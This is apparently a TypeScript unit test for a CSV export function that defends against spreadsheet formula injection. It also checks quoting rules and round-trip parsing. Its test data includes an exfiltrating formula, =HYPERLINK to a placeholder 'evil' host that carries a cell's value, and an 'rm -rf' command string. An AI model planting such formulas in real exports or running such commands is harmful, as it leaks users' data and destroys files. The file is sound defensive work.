import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell, toCsv } from './csv.ts';

test('csvCell: a cell a spreadsheet would evaluate starts with a quote; the rest of the value is kept', () => {
  assert.equal(csvCell('=HYPERLINK("http://evil/?"&A1,"x")'), `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
  assert.equal(csvCell('+1+1'), "'+1+1");
  assert.equal(csvCell('-2+3'), "'-2+3");
  assert.equal(csvCell('@SUM(A1:A9)'), "'@SUM(A1:A9)");
  assert.equal(csvCell('\t=1'), "'\t=1");
  assert.equal(csvCell('\rcmd'), `"'\rcmd"`);
  assert.equal(csvCell('  =1+1'), "'  =1+1"); // leading white space does not hide it
  assert.equal(csvCell('\uff1d1+1'), "'\uff1d1+1"); // full-width equals sign
  assert.equal(csvCell('rm -rf /tmp/x^M'), 'rm -rf /tmp/x^M'); // a dash inside is fine
  assert.equal(csvCell("'=already"), "'=already");
});

test('csvCell: quoting for quotes, line breaks and both separators; numbers and missing values', () => {
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('a;=1+1'), '"a;=1+1"'); // one cell also where ; separates
  assert.equal(csvCell('two\r\nlines'), '"two\r\nlines"');
  assert.equal(csvCell(42), '42');
  assert.equal(csvCell(-1), "'-1"); // as text: a spreadsheet would not compute with it anyway
  assert.equal(csvCell(undefined), '');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell('plain text'), 'plain text');
});

test('toCsv: header and rows, CRLF after each, a parser gets every value back (less the one quote)', () => {
  const rows = [['time', 'user', 'what'], ['2026-11-25T14:00:00.000Z', 'alice', '=1+2^M'], ['2026-11-25T14:00:01.000Z', 'bob', 'a "b", c\nd']];
  const csv = toCsv(rows);
  assert.equal(csv, `time,user,what\r\n2026-11-25T14:00:00.000Z,alice,'=1+2^M\r\n2026-11-25T14:00:01.000Z,bob,"a ""b"", c\nd"\r\n`);
  // RFC 4180 read back: quoted fields may hold separators, quotes ("") and line breaks.
  const back: string[][] = [];
  let row: string[] = [], cell = '', q = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (q) { if (c === '"' && csv[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') q = false; else cell += c; continue; }
    if (c === '"') q = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\r' && csv[i + 1] === '\n') { row.push(cell); back.push(row); row = []; cell = ''; i++; }
    else cell += c;
  }
  assert.deepEqual(back, rows.map((r) => r.map((v) => (v.startsWith('=') ? `'${v}` : v))));
});
